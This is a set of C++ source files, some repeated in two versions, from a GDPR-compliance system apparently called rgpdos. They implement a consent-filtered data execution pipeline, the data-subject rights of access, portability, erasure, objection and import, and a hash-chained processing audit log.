  /// the implementation actually reads is recorded there — the
  /// observation channel of PS's runtime purpose verifier (the paper's
  /// §3(4) purpose/implementation matching problem, attacked dynamically).
  Result<InvokeResult> Execute(
      const dsl::PurposeDecl& purpose, const std::string& processing_name,
      const ProcessingFn& fn, const std::optional<PdRef>& target,
      std::set<std::string>* field_trace = nullptr,
      const std::vector<FieldPredicate>& predicates = {});

 private:
  /// Effective field scope = subject consent ∩ purpose declaration
  /// (data minimisation: the function sees the smaller of what the
  /// subject allows and what the purpose asked for).
  Result<std::set<std::string>> EffectiveScope(
      const dsl::TypeDecl& type, const membrane::Consent& consent,
      const dsl::PurposeDecl& purpose) const;

  Result<membrane::Membrane> BuildDerivedMembrane(
      const dsl::PurposeDecl& purpose, const membrane::Membrane& source)
      const;

  /// Everything one candidate record produced, staged so shards can run
  /// the per-record stages concurrently and Execute can merge the
  /// results in candidate order.
  struct RecordOutcome {
    struct StagedLog {
      dbfs::SubjectId subject = 0;
      dbfs::RecordId record = 0;
      LogOutcome outcome = LogOutcome::kProcessed;
      std::string detail;
    };
    std::vector<StagedLog> logs;
    Status error = Status::Ok();  ///< non-OK halts the merge at this record
    bool processed = false;
    std::uint64_t filtered = 0;
    Bytes npd;
    std::optional<db::Row> derived_row;
    membrane::Membrane source_membrane;  ///< set when derived_row is
    std::set<std::string> fields;        ///< this record's field trace
    std::uint64_t syscalls_denied = 0;
    StageTimings timings;
  };

  /// Outcome of the filter stage for one (record, membrane version).
  struct Decision {
    Status error = Status::Ok();  ///< non-OK: scope computation failed
    bool approved = false;
    std::string filter_detail;  ///< set when !approved (log text)
    membrane::Consent consent;
    std::set<std::string> scope;
  };

  /// Per-invoke memo of consent decisions, keyed by record id and
  /// guarded by the membrane version the decision was computed against.
  /// Leaf lock (plain mutex): nothing else is ever acquired while held,
  /// and the memo dies with its invoke.
  class DecisionMemo {
   public:
    [[nodiscard]] std::optional<Decision> Lookup(dbfs::RecordId id,
                                                 std::uint64_t version) const {
      std::lock_guard<std::mutex> lock(mu_);
      const auto it = map_.find(id);
      if (it == map_.end() || it->second.first != version) {
        return std::nullopt;
      }
      return it->second.second;
    }
    void Store(dbfs::RecordId id, std::uint64_t version, Decision decision) {
      std::lock_guard<std::mutex> lock(mu_);
      map_[id] = {version, std::move(decision)};
    }

   private:
    mutable std::mutex mu_;
    std::unordered_map<dbfs::RecordId, std::pair<std::uint64_t, Decision>>
        map_;
  };

  /// Memo-through filter decision for `m` (memo may be null).
  Decision Decide(const membrane::Membrane& m, const dsl::TypeDecl& type,
                  const dsl::PurposeDecl& purpose, dbfs::RecordId id,
                  TimeMicros now, DecisionMemo* memo) const;

  /// A filter-approved candidate staged for the execute lane: its slot
  /// in candidate order, the membrane image the filter decision was made
  /// on, that decision, and the row fetched by the batched ded_load_data
  /// stage. This is the unit the load stage pushes through the bounded
  /// queue to the execute lanes.
  struct StagedRecord {
    std::size_t index = 0;  ///< candidate-order slot in the outcome array
    dbfs::RecordId id = 0;
    membrane::Membrane membrane;
    Decision decision;
    Result<dbfs::PdRecord> record = Internal("row not loaded");
    /// DbfsApi::SubjectGeneration snapshot taken right after the batched
    /// row load: the execute stage re-fetches the membrane iff it moved,
    /// so a withdrawal acked between load and execute is never honoured
    /// while the unmutated common case pays one atomic load.
    std::uint64_t subject_gen = 0;
  };

  /// The execute-stage slice for one staged survivor: erased check,
  /// stale-consent re-validation against the membrane that travelled
  /// WITH the row, application predicates, then the implementation under
  /// the syscall filter. Pure with respect to DED state (all shared
  /// mutation is deferred into `out`), so any lane may run it.
  void ExecuteStaged(StagedRecord s, RecordOutcome& out,
                     const dsl::TypeDecl& input_type,
                     const db::Schema& input_schema,
                     const dsl::PurposeDecl& purpose,
                     const std::string& processing_name,
                     const ProcessingFn& fn,
                     const std::vector<FieldPredicate>& predicates,
                     TimeMicros now, bool want_trace,
                     DecisionMemo* memo) const;

  dbfs::DbfsApi* dbfs_;             // borrowed
  sentinel::Sentinel* sentinel_; // borrowed
  ProcessingLog* log_;           // borrowed
  const Clock* clock_;           // borrowed
  DedExecutor* executor_;        // borrowed; null = single-lane
  bool memoize_decisions_;
};

}  // namespace rgpdos::core
