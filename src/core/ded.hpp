// Data Execution Domain (paper §2) — "any F_pd function is always
// executed as an instance of the DED, an environment that ensures GDPR
// compliance on manipulated PD".
//
// The eight pipeline steps run in order, each timed for the Fig-4
// breakdown:
//   ded_type2req        input parameter type -> DBFS requests
//   ded_load_membrane   fetch membranes FIRST (no PD bytes yet)
//   ded_filter          keep only records whose membrane approves the
//                       purpose now (consent + TTL)
//   ded_load_data       fetch rows for the survivors only
//   ded_execute         run the implementation under the syscall filter
//   ded_build_membrane  wrap derived PD in a membrane
//   ded_store           persist derived PD in DBFS
//   ded_return          hand back PdRefs + NPD, never PD by value
//
// A DED is only constructible by the ProcessingStore (rule 2): the
// constructor requires a PassKey that only PS can mint.
#pragma once

#include "core/processing.hpp"
#include "core/processing_log.hpp"
#include "dbfs/dbfs.hpp"
#include "dsl/ast.hpp"
#include "sentinel/policy.hpp"

namespace rgpdos::core {

class ProcessingStore;

class DataExecutionDomain {
 public:
  /// Capability token: only ProcessingStore can create one, which makes
  /// "PS is the only entry point to invoke a processing" a compile-time
  /// property on top of the sentinel's runtime check.
  class PassKey {
   private:
    PassKey() = default;
    friend class ProcessingStore;
  };

  DataExecutionDomain(PassKey, dbfs::Dbfs* dbfs, sentinel::Sentinel* sentinel,
                      ProcessingLog* log, const Clock* clock)
      : dbfs_(dbfs), sentinel_(sentinel), log_(log), clock_(clock) {}

  /// Run the full pipeline for `processing` (its purpose declaration and
  /// implementation) over either one record or all records of the
  /// purpose's input type. When `field_trace` is non-null, every field
  /// the implementation actually reads is recorded there — the
  /// observation channel of PS's runtime purpose verifier (the paper's
  /// §3(4) purpose/implementation matching problem, attacked dynamically).
  Result<InvokeResult> Execute(
      const dsl::PurposeDecl& purpose, const std::string& processing_name,
      const ProcessingFn& fn, const std::optional<PdRef>& target,
      std::set<std::string>* field_trace = nullptr,
      const std::vector<FieldPredicate>& predicates = {});

 private:
  /// Effective field scope = subject consent ∩ purpose declaration
  /// (data minimisation: the function sees the smaller of what the
  /// subject allows and what the purpose asked for).
  Result<std::set<std::string>> EffectiveScope(
      const dsl::TypeDecl& type, const membrane::Consent& consent,
      const dsl::PurposeDecl& purpose) const;

  Result<membrane::Membrane> BuildDerivedMembrane(
      const dsl::PurposeDecl& purpose, const membrane::Membrane& source)
      const;

  dbfs::Dbfs* dbfs_;             // borrowed
  sentinel::Sentinel* sentinel_; // borrowed
  ProcessingLog* log_;           // borrowed
  const Clock* clock_;           // borrowed
};

}  // namespace rgpdos::core
