#include "core/rights.hpp"

#include "common/hex.hpp"
#include "common/json.hpp"

namespace rgpdos::core {

namespace {
constexpr sentinel::Domain kDed = sentinel::Domain::kDed;

void AppendValueJson(std::string& out, const db::Value& value) {
  switch (value.type()) {
    case db::ValueType::kNull: out += "null"; break;
    case db::ValueType::kInt: out += std::to_string(*value.AsInt()); break;
    case db::ValueType::kDouble:
      out += std::to_string(*value.AsDouble());
      break;
    case db::ValueType::kBool: out += *value.AsBool() ? "true" : "false"; break;
    case db::ValueType::kString:
      out += '"';
      out += JsonEscape(*value.AsString());
      out += '"';
      break;
    case db::ValueType::kBytes:
      out += '"';
      out += HexEncode(*value.AsBytes());
      out += '"';
      break;
  }
}

void AppendRecordJson(std::string& out, const dbfs::PdRecord& record,
                      const dsl::TypeDecl& type) {
  out += "{\"record_id\":" + std::to_string(record.record_id);
  out += ",\"type\":\"" + JsonEscape(record.type_name) + "\"";
  out += ",\"erased\":";
  out += record.erased ? "true" : "false";
  if (!record.erased) {
    out += ",\"fields\":{";
    const auto& fields = type.fields;
    for (std::size_t i = 0; i < fields.size(); ++i) {
      if (i > 0) out += ',';
      out += '"';
      out += JsonEscape(fields[i].name);
      out += "\":";
      AppendValueJson(out, record.row[i]);
    }
    out += '}';
  }
  out += ",\"membrane\":{";
  out += "\"origin\":\"" +
         std::string(membrane::OriginName(record.membrane.origin)) + "\"";
  out += ",\"sensitivity\":\"" +
         std::string(membrane::SensitivityName(record.membrane.sensitivity)) +
         "\"";
  out += ",\"created_at\":" + std::to_string(record.membrane.created_at);
  out += ",\"ttl\":" + std::to_string(record.membrane.ttl);
  out += ",\"consents\":{";
  bool first = true;
  for (const auto& [purpose, consent] : record.membrane.consents) {
    if (!first) out += ',';
    first = false;
    out += '"';
    out += JsonEscape(purpose);
    out += "\":\"";
    switch (consent.kind) {
      case membrane::ConsentKind::kNone: out += "none"; break;
      case membrane::ConsentKind::kAll: out += "all"; break;
      case membrane::ConsentKind::kView:
        out += "view:" + JsonEscape(consent.view);
        break;
    }
    out += '"';
  }
  out += "},\"objections\":[";
  first = true;
  for (const std::string& purpose : record.membrane.objections) {
    if (!first) out += ',';
    first = false;
    out += '"';
    out += JsonEscape(purpose);
    out += '"';
  }
  out += "],\"no_automated_decision\":";
  out += record.membrane.no_automated_decision ? "true" : "false";
  out += "}}";
}

}  // namespace

std::string JsonEscape(std::string_view text) {
  return rgpdos::JsonEscape(text);
}

Result<std::string> Rights::Access(dbfs::SubjectId subject) const {
  RGPD_ASSIGN_OR_RETURN(dbfs::SubjectExport data,
                        dbfs_->ExportSubject(kDed, subject));
  std::string out = "{\"subject_id\":" + std::to_string(subject);
  out += ",\"records\":[";
  for (std::size_t i = 0; i < data.records.size(); ++i) {
    if (i > 0) out += ',';
    RGPD_ASSIGN_OR_RETURN(const dsl::TypeDecl* type,
                          dbfs_->GetType(kDed, data.records[i].type_name));
    AppendRecordJson(out, data.records[i], *type);
  }
  out += "],\"processings\":[";
  const std::vector<LogEntry> history = log_->ForSubject(subject);
  for (std::size_t i = 0; i < history.size(); ++i) {
    if (i > 0) out += ',';
    const LogEntry& e = history[i];
    out += "{\"at\":" + std::to_string(e.at);
    out += ",\"processing\":\"" + JsonEscape(e.processing) + "\"";
    out += ",\"purpose\":\"" + JsonEscape(e.purpose) + "\"";
    out += ",\"record_id\":" + std::to_string(e.record_id);
    out += ",\"outcome\":\"" + std::string(LogOutcomeName(e.outcome)) + "\"}";
  }
  out += "]}";
  log_->Append("rights.access", "right_of_access", subject, 0,
               LogOutcome::kExported);
  return out;
}

Result<std::string> Rights::Portability(dbfs::SubjectId subject) const {
  RGPD_ASSIGN_OR_RETURN(dbfs::SubjectExport data,
                        dbfs_->ExportSubject(kDed, subject));
  std::string out = "{\"subject_id\":" + std::to_string(subject);
  out += ",\"records\":[";
  bool first = true;
  for (const dbfs::PdRecord& record : data.records) {
    if (record.erased) continue;  // erased PD is not portable
    if (!first) out += ',';
    first = false;
    RGPD_ASSIGN_OR_RETURN(const dsl::TypeDecl* type,
                          dbfs_->GetType(kDed, record.type_name));
    AppendRecordJson(out, record, *type);
  }
  out += "]}";
  log_->Append("rights.portability", "right_to_portability", subject, 0,
               LogOutcome::kExported);
  return out;
}

Result<std::size_t> Rights::Forget(
    dbfs::SubjectId subject, const crypto::RsaPublicKey& authority_key) {
  RGPD_ASSIGN_OR_RETURN(std::vector<dbfs::RecordId> records,
                        dbfs_->RecordsOfSubject(kDed, subject));
  std::size_t erased = 0;
  for (dbfs::RecordId id : records) {
    RGPD_ASSIGN_OR_RETURN(dbfs::PdRecord record, dbfs_->Get(kDed, id));
    if (record.erased) continue;
    RGPD_RETURN_IF_ERROR(builtins_->EraseWithHold(
        PdRef{id, record.type_name}, authority_key));
    ++erased;
  }
  return erased;
}

Status Rights::Rectify(const PdRef& ref, const db::Row& row) {
  return builtins_->Update(ref, row);
}

Result<std::size_t> Rights::ForEachCopyGroup(
    dbfs::SubjectId subject,
    const std::function<Status(const PdRef&)>& apply) {
  RGPD_ASSIGN_OR_RETURN(std::vector<dbfs::RecordId> records,
                        dbfs_->RecordsOfSubject(kDed, subject));
  std::set<std::uint64_t> groups;
  std::size_t touched = 0;
  for (dbfs::RecordId id : records) {
    RGPD_ASSIGN_OR_RETURN(membrane::Membrane m,
                          dbfs_->GetMembrane(kDed, id));
    // The builtin propagates across the whole copy group; visiting one
    // member per group is enough (and keeps version bumps minimal).
    if (!groups.insert(m.copy_group).second) continue;
    RGPD_RETURN_IF_ERROR(apply(PdRef{id, m.type_name}));
    ++touched;
  }
  return touched;
}

Result<std::size_t> Rights::Object(dbfs::SubjectId subject,
                                   const std::string& purpose) {
  return ForEachCopyGroup(subject, [&](const PdRef& ref) {
    return builtins_->Object(ref, purpose);
  });
}

Result<std::size_t> Rights::WithdrawObjection(dbfs::SubjectId subject,
                                              const std::string& purpose) {
  return ForEachCopyGroup(subject, [&](const PdRef& ref) {
    return builtins_->WithdrawObjection(ref, purpose);
  });
}

Result<std::size_t> Rights::OptOutAutomatedDecisions(dbfs::SubjectId subject,
                                                     bool opt_out) {
  return ForEachCopyGroup(subject, [&](const PdRef& ref) {
    return builtins_->SetAutomatedDecisionOptOut(ref, opt_out);
  });
}

namespace {

/// Identity of an imported record for dedupe purposes: subject + type +
/// encoded row + the membrane as it would be stored here (origin forced
/// to third-party; copy group and version masked — Put assigns a fresh
/// group, and unrelated mutations bump version without changing what
/// the record *is*).
std::string ImportKey(dbfs::SubjectId subject, const std::string& type_name,
                      const db::Schema& schema, const db::Row& row,
                      membrane::Membrane m) {
  m.origin = membrane::Origin::kThirdParty;
  m.copy_group = 0;
  m.version = 0;
  std::string key = std::to_string(subject) + '/' + type_name + '/';
  const Bytes row_bytes = schema.EncodeRow(row);
  key.append(reinterpret_cast<const char*>(row_bytes.data()),
             row_bytes.size());
  key += '/';
  const Bytes membrane_bytes = m.Serialize();
  key.append(reinterpret_cast<const char*>(membrane_bytes.data()),
             membrane_bytes.size());
  return key;
}

}  // namespace

Result<std::size_t> Rights::ImportSubject(const dbfs::SubjectExport& data) {
  // Idempotence: importing the same export twice must not duplicate PD
  // (Art. 5(1)(c) data minimisation — silent copies are how operators
  // end up holding more PD than the subject ever moved). Build the set
  // of records already present, keyed by content, and skip matches.
  std::set<std::string> existing;
  std::set<dbfs::SubjectId> seen_subjects;
  for (const dbfs::PdRecord& record : data.records) {
    if (record.erased || !seen_subjects.insert(record.subject_id).second) {
      continue;
    }
    RGPD_ASSIGN_OR_RETURN(std::vector<dbfs::RecordId> here,
                          dbfs_->RecordsOfSubject(kDed, record.subject_id));
    for (dbfs::RecordId id : here) {
      RGPD_ASSIGN_OR_RETURN(dbfs::PdRecord mine, dbfs_->Get(kDed, id));
      if (mine.erased) continue;
      RGPD_ASSIGN_OR_RETURN(const dsl::TypeDecl* type,
                            dbfs_->GetType(kDed, mine.type_name));
      existing.insert(ImportKey(mine.subject_id, mine.type_name,
                                type->ToSchema(), mine.row, mine.membrane));
    }
  }
  std::size_t imported = 0;
  for (const dbfs::PdRecord& record : data.records) {
    if (record.erased) continue;
    // The receiving operator's schema tree must know the type; a type
    // mismatch is the importer's problem to resolve, not ours to guess.
    RGPD_ASSIGN_OR_RETURN(const dsl::TypeDecl* type,
                          dbfs_->GetType(kDed, record.type_name));
    const std::string key =
        ImportKey(record.subject_id, record.type_name, type->ToSchema(),
                  record.row, record.membrane);
    if (!existing.insert(key).second) {
      log_->Append("rights.import", "right_to_portability",
                   record.subject_id, record.record_id,
                   LogOutcome::kCollected, "already imported; skipped");
      continue;
    }
    membrane::Membrane m = record.membrane;
    m.origin = membrane::Origin::kThirdParty;  // it came from elsewhere
    m.copy_group = 0;                          // fresh group here
    RGPD_ASSIGN_OR_RETURN(
        dbfs::RecordId id,
        dbfs_->Put(kDed, record.subject_id, record.type_name, record.row,
                   std::move(m)));
    log_->Append("rights.import", "right_to_portability",
                 record.subject_id, id, LogOutcome::kCollected,
                 "imported from another operator");
    ++imported;
  }
  return imported;
}

}  // namespace rgpdos::core
