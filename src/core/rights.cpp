#include "core/rights.hpp"

#include "common/hex.hpp"

namespace rgpdos::core {

namespace {
constexpr sentinel::Domain kDed = sentinel::Domain::kDed;

void AppendValueJson(std::string& out, const db::Value& value) {
  switch (value.type()) {
    case db::ValueType::kNull: out += "null"; break;
    case db::ValueType::kInt: out += std::to_string(*value.AsInt()); break;
    case db::ValueType::kDouble:
      out += std::to_string(*value.AsDouble());
      break;
    case db::ValueType::kBool: out += *value.AsBool() ? "true" : "false"; break;
    case db::ValueType::kString:
      out += '"';
      out += JsonEscape(*value.AsString());
      out += '"';
      break;
    case db::ValueType::kBytes:
      out += '"';
      out += HexEncode(*value.AsBytes());
      out += '"';
      break;
  }
}

void AppendRecordJson(std::string& out, const dbfs::PdRecord& record,
                      const dsl::TypeDecl& type) {
  out += "{\"record_id\":" + std::to_string(record.record_id);
  out += ",\"type\":\"" + JsonEscape(record.type_name) + "\"";
  out += ",\"erased\":";
  out += record.erased ? "true" : "false";
  if (!record.erased) {
    out += ",\"fields\":{";
    const auto& fields = type.fields;
    for (std::size_t i = 0; i < fields.size(); ++i) {
      if (i > 0) out += ',';
      out += '"';
      out += JsonEscape(fields[i].name);
      out += "\":";
      AppendValueJson(out, record.row[i]);
    }
    out += '}';
  }
  out += ",\"membrane\":{";
  out += "\"origin\":\"" +
         std::string(membrane::OriginName(record.membrane.origin)) + "\"";
  out += ",\"sensitivity\":\"" +
         std::string(membrane::SensitivityName(record.membrane.sensitivity)) +
         "\"";
  out += ",\"created_at\":" + std::to_string(record.membrane.created_at);
  out += ",\"ttl\":" + std::to_string(record.membrane.ttl);
  out += ",\"consents\":{";
  bool first = true;
  for (const auto& [purpose, consent] : record.membrane.consents) {
    if (!first) out += ',';
    first = false;
    out += '"';
    out += JsonEscape(purpose);
    out += "\":\"";
    switch (consent.kind) {
      case membrane::ConsentKind::kNone: out += "none"; break;
      case membrane::ConsentKind::kAll: out += "all"; break;
      case membrane::ConsentKind::kView:
        out += "view:" + JsonEscape(consent.view);
        break;
    }
    out += '"';
  }
  out += "}}}";
}

}  // namespace

std::string JsonEscape(std::string_view text) {
  std::string out;
  out.reserve(text.size());
  for (char c : text) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\r': out += "\\r"; break;
      case '\t': out += "\\t"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          char buf[8];
          std::snprintf(buf, sizeof(buf), "\\u%04x", c);
          out += buf;
        } else {
          out += c;
        }
    }
  }
  return out;
}

Result<std::string> Rights::Access(dbfs::SubjectId subject) const {
  RGPD_ASSIGN_OR_RETURN(dbfs::SubjectExport data,
                        dbfs_->ExportSubject(kDed, subject));
  std::string out = "{\"subject_id\":" + std::to_string(subject);
  out += ",\"records\":[";
  for (std::size_t i = 0; i < data.records.size(); ++i) {
    if (i > 0) out += ',';
    RGPD_ASSIGN_OR_RETURN(const dsl::TypeDecl* type,
                          dbfs_->GetType(kDed, data.records[i].type_name));
    AppendRecordJson(out, data.records[i], *type);
  }
  out += "],\"processings\":[";
  const std::vector<LogEntry> history = log_->ForSubject(subject);
  for (std::size_t i = 0; i < history.size(); ++i) {
    if (i > 0) out += ',';
    const LogEntry& e = history[i];
    out += "{\"at\":" + std::to_string(e.at);
    out += ",\"processing\":\"" + JsonEscape(e.processing) + "\"";
    out += ",\"purpose\":\"" + JsonEscape(e.purpose) + "\"";
    out += ",\"record_id\":" + std::to_string(e.record_id);
    out += ",\"outcome\":\"" + std::string(LogOutcomeName(e.outcome)) + "\"}";
  }
  out += "]}";
  log_->Append("rights.access", "right_of_access", subject, 0,
               LogOutcome::kExported);
  return out;
}

Result<std::string> Rights::Portability(dbfs::SubjectId subject) const {
  RGPD_ASSIGN_OR_RETURN(dbfs::SubjectExport data,
                        dbfs_->ExportSubject(kDed, subject));
  std::string out = "{\"subject_id\":" + std::to_string(subject);
  out += ",\"records\":[";
  bool first = true;
  for (const dbfs::PdRecord& record : data.records) {
    if (record.erased) continue;  // erased PD is not portable
    if (!first) out += ',';
    first = false;
    RGPD_ASSIGN_OR_RETURN(const dsl::TypeDecl* type,
                          dbfs_->GetType(kDed, record.type_name));
    AppendRecordJson(out, record, *type);
  }
  out += "]}";
  log_->Append("rights.portability", "right_to_portability", subject, 0,
               LogOutcome::kExported);
  return out;
}

Result<std::size_t> Rights::Forget(
    dbfs::SubjectId subject, const crypto::RsaPublicKey& authority_key) {
  RGPD_ASSIGN_OR_RETURN(std::vector<dbfs::RecordId> records,
                        dbfs_->RecordsOfSubject(kDed, subject));
  std::size_t erased = 0;
  for (dbfs::RecordId id : records) {
    RGPD_ASSIGN_OR_RETURN(dbfs::PdRecord record, dbfs_->Get(kDed, id));
    if (record.erased) continue;
    RGPD_RETURN_IF_ERROR(builtins_->EraseWithHold(
        PdRef{id, record.type_name}, authority_key));
    ++erased;
  }
  return erased;
}

Status Rights::Rectify(const PdRef& ref, const db::Row& row) {
  return builtins_->Update(ref, row);
}

Result<std::size_t> Rights::ImportSubject(const dbfs::SubjectExport& data) {
  std::size_t imported = 0;
  for (const dbfs::PdRecord& record : data.records) {
    if (record.erased) continue;
    // The receiving operator's schema tree must know the type; a type
    // mismatch is the importer's problem to resolve, not ours to guess.
    RGPD_RETURN_IF_ERROR(dbfs_->GetType(kDed, record.type_name).status());
    membrane::Membrane m = record.membrane;
    m.origin = membrane::Origin::kThirdParty;  // it came from elsewhere
    m.copy_group = 0;                          // fresh group here
    RGPD_ASSIGN_OR_RETURN(
        dbfs::RecordId id,
        dbfs_->Put(kDed, record.subject_id, record.type_name, record.row,
                   std::move(m)));
    log_->Append("rights.import", "right_to_portability",
                 record.subject_id, id, LogOutcome::kCollected,
                 "imported from another operator");
    ++imported;
  }
  return imported;
}

}  // namespace rgpdos::core
