#include "core/processing_log.hpp"

#include "common/log.hpp"
#include "crypto/hmac.hpp"

namespace rgpdos::core {

namespace {
// Per-thread batch staging. Entries appended inside a BatchScope are
// parked here — seq 0, chain unset — and only meet the shared chain at
// EndBatch. Keyed by owning log so a batch on one ProcessingLog never
// swallows appends to another (depth handles re-entrant scopes on the
// same log).
struct ThreadBatch {
  const void* log = nullptr;
  int depth = 0;
  std::vector<LogEntry> staged;
};
thread_local ThreadBatch t_batch;
}  // namespace

std::string_view LogOutcomeName(LogOutcome outcome) {
  switch (outcome) {
    case LogOutcome::kProcessed: return "processed";
    case LogOutcome::kFiltered: return "filtered";
    case LogOutcome::kErased: return "erased";
    case LogOutcome::kCollected: return "collected";
    case LogOutcome::kUpdated: return "updated";
    case LogOutcome::kCopied: return "copied";
    case LogOutcome::kExported: return "exported";
    case LogOutcome::kAborted: return "aborted";
    case LogOutcome::kRestricted: return "restricted";
  }
  return "?";
}

crypto::Sha256Digest ProcessingLog::HashEntry(
    const LogEntry& entry, const crypto::Sha256Digest& prev) {
  ByteWriter w;
  w.PutU64(entry.seq);
  w.PutI64(entry.at);
  w.PutString(entry.processing);
  w.PutString(entry.purpose);
  w.PutU64(entry.subject_id);
  w.PutU64(entry.record_id);
  w.PutU8(static_cast<std::uint8_t>(entry.outcome));
  w.PutString(entry.detail);
  w.PutRaw(ByteSpan(prev.data(), prev.size()));
  return crypto::Sha256Hash(w.buffer());
}

Bytes ProcessingLog::EncodeEntry(const LogEntry& entry) {
  ByteWriter w;
  w.PutU64(entry.seq);
  w.PutI64(entry.at);
  w.PutString(entry.processing);
  w.PutString(entry.purpose);
  w.PutU64(entry.subject_id);
  w.PutU64(entry.record_id);
  w.PutU8(static_cast<std::uint8_t>(entry.outcome));
  w.PutString(entry.detail);
  w.PutRaw(ByteSpan(entry.chain.data(), entry.chain.size()));
  return w.Take();
}

Result<LogEntry> ProcessingLog::DecodeEntry(ByteReader& reader) {
  LogEntry entry;
  RGPD_ASSIGN_OR_RETURN(entry.seq, reader.GetU64());
  RGPD_ASSIGN_OR_RETURN(entry.at, reader.GetI64());
  RGPD_ASSIGN_OR_RETURN(entry.processing, reader.GetString());
  RGPD_ASSIGN_OR_RETURN(entry.purpose, reader.GetString());
  RGPD_ASSIGN_OR_RETURN(entry.subject_id, reader.GetU64());
  RGPD_ASSIGN_OR_RETURN(entry.record_id, reader.GetU64());
  RGPD_ASSIGN_OR_RETURN(std::uint8_t outcome, reader.GetU8());
  if (outcome > static_cast<std::uint8_t>(LogOutcome::kRestricted)) {
    return Corruption("processing log: unknown outcome");
  }
  entry.outcome = static_cast<LogOutcome>(outcome);
  RGPD_ASSIGN_OR_RETURN(entry.detail, reader.GetString());
  RGPD_ASSIGN_OR_RETURN(Bytes chain,
                        reader.GetRaw(crypto::kSha256DigestSize));
  std::copy(chain.begin(), chain.end(), entry.chain.begin());
  return entry;
}

Status ProcessingLog::LoadFromStore(inodefs::InodeStore* store,
                                    inodefs::InodeId inode) {
  RGPD_ASSIGN_OR_RETURN(Bytes raw, store->ReadAll(inode));
  ByteReader reader(raw);
  std::vector<LogEntry> loaded;
  crypto::Sha256Digest prev{};
  while (!reader.exhausted()) {
    RGPD_ASSIGN_OR_RETURN(LogEntry entry, DecodeEntry(reader));
    if (!crypto::DigestEqual(HashEntry(entry, prev), entry.chain)) {
      return Corruption("processing log: hash chain broken at seq " +
                        std::to_string(entry.seq));
    }
    prev = entry.chain;
    loaded.push_back(std::move(entry));
  }
  entries_ = std::move(loaded);
  store_ = store;
  inode_ = inode;
  return Status::Ok();
}

void ProcessingLog::CommitEntryLocked(LogEntry entry, Bytes& encoded) {
  entry.seq = entries_.size();
  const crypto::Sha256Digest prev =
      entries_.empty() ? crypto::Sha256Digest{} : entries_.back().chain;
  entry.chain = HashEntry(entry, prev);
  const Bytes bytes = EncodeEntry(entry);
  encoded.insert(encoded.end(), bytes.begin(), bytes.end());
  entries_.push_back(std::move(entry));
}

void ProcessingLog::DurableAppendLocked(const Bytes& encoded) {
  if (store_ == nullptr || encoded.empty()) return;
  // An IO failure here is deliberately loud: silently losing audit
  // history would defeat the log.
  const Status appended = store_->Append(inode_, encoded);
  if (!appended.ok()) {
    RGPD_LOG(kError, "processing_log")
        << "append failed: " << appended.ToString();
  }
}

void ProcessingLog::Append(std::string processing, std::string purpose,
                           dbfs::SubjectId subject, dbfs::RecordId record,
                           LogOutcome outcome, std::string detail) {
  LogEntry entry;
  entry.at = clock_->Now();
  entry.processing = std::move(processing);
  entry.purpose = std::move(purpose);
  entry.subject_id = subject;
  entry.record_id = record;
  entry.outcome = outcome;
  entry.detail = std::move(detail);
  if (t_batch.depth > 0 && t_batch.log == this) {
    // Inside this thread's batch: park the entry; seq and chain are
    // assigned contiguously at EndBatch.
    t_batch.staged.push_back(std::move(entry));
    return;
  }
  std::lock_guard<metrics::OrderedMutex> lock(mu_);
  Bytes encoded;
  CommitEntryLocked(std::move(entry), encoded);
  DurableAppendLocked(encoded);
}

std::size_t ProcessingLog::entry_count() const {
  std::lock_guard<metrics::OrderedMutex> lock(mu_);
  return entries_.size();
}

std::vector<LogEntry> ProcessingLog::ForRecord(dbfs::RecordId record) const {
  std::lock_guard<metrics::OrderedMutex> lock(mu_);
  std::vector<LogEntry> out;
  for (const LogEntry& e : entries_) {
    if (e.record_id == record) out.push_back(e);
  }
  return out;
}

std::vector<LogEntry> ProcessingLog::ForSubject(
    dbfs::SubjectId subject) const {
  std::lock_guard<metrics::OrderedMutex> lock(mu_);
  std::vector<LogEntry> out;
  for (const LogEntry& e : entries_) {
    if (e.subject_id == subject) out.push_back(e);
  }
  return out;
}

void ProcessingLog::BeginBatch() {
  if (t_batch.depth > 0 && t_batch.log != this) {
    // A batch for another log is active on this thread; appends to THIS
    // log stay unbatched (Append checks the owner). Don't disturb it.
    return;
  }
  t_batch.log = this;
  ++t_batch.depth;
}

void ProcessingLog::EndBatch() {
  if (t_batch.log != this || t_batch.depth == 0) return;
  if (--t_batch.depth > 0) return;
  std::vector<LogEntry> staged = std::move(t_batch.staged);
  t_batch.staged.clear();
  t_batch.log = nullptr;
  if (staged.empty()) return;
  // One lock hold finalises the whole batch: contiguous sequence
  // numbers, one chain continuation, one durable append.
  std::lock_guard<metrics::OrderedMutex> lock(mu_);
  Bytes encoded;
  for (LogEntry& entry : staged) {
    CommitEntryLocked(std::move(entry), encoded);
  }
  DurableAppendLocked(encoded);
}

bool ProcessingLog::VerifyChain() const {
  std::lock_guard<metrics::OrderedMutex> lock(mu_);
  crypto::Sha256Digest prev{};
  for (const LogEntry& e : entries_) {
    if (!crypto::DigestEqual(HashEntry(e, prev), e.chain)) return false;
    prev = e.chain;
  }
  return true;
}

}  // namespace rgpdos::core
