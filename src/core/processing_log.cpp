#include "core/processing_log.hpp"

#include <algorithm>
#include <string>

#include "common/log.hpp"
#include "crypto/hmac.hpp"
#include "metrics/metrics.hpp"

namespace rgpdos::core {

namespace {
// Per-thread batch staging. Entries appended inside a BatchScope are
// parked here — seq 0, chain unset — and only meet the shared chain at
// EndBatch. Keyed by owning log so a batch on one ProcessingLog never
// swallows appends to another (depth handles re-entrant scopes on the
// same log).
struct ThreadBatch {
  const void* log = nullptr;
  int depth = 0;
  std::vector<LogEntry> staged;
};
thread_local ThreadBatch t_batch;
}  // namespace

std::string_view LogOutcomeName(LogOutcome outcome) {
  switch (outcome) {
    case LogOutcome::kProcessed: return "processed";
    case LogOutcome::kFiltered: return "filtered";
    case LogOutcome::kErased: return "erased";
    case LogOutcome::kCollected: return "collected";
    case LogOutcome::kUpdated: return "updated";
    case LogOutcome::kCopied: return "copied";
    case LogOutcome::kExported: return "exported";
    case LogOutcome::kAborted: return "aborted";
    case LogOutcome::kRestricted: return "restricted";
    case LogOutcome::kObjected: return "objected";
  }
  return "?";
}

crypto::Sha256Digest ProcessingLog::HashEntry(
    const LogEntry& entry, const crypto::Sha256Digest& prev) {
  ByteWriter w;
  w.PutU64(entry.seq);
  w.PutI64(entry.at);
  w.PutString(entry.processing);
  w.PutString(entry.purpose);
  w.PutU64(entry.subject_id);
  w.PutU64(entry.record_id);
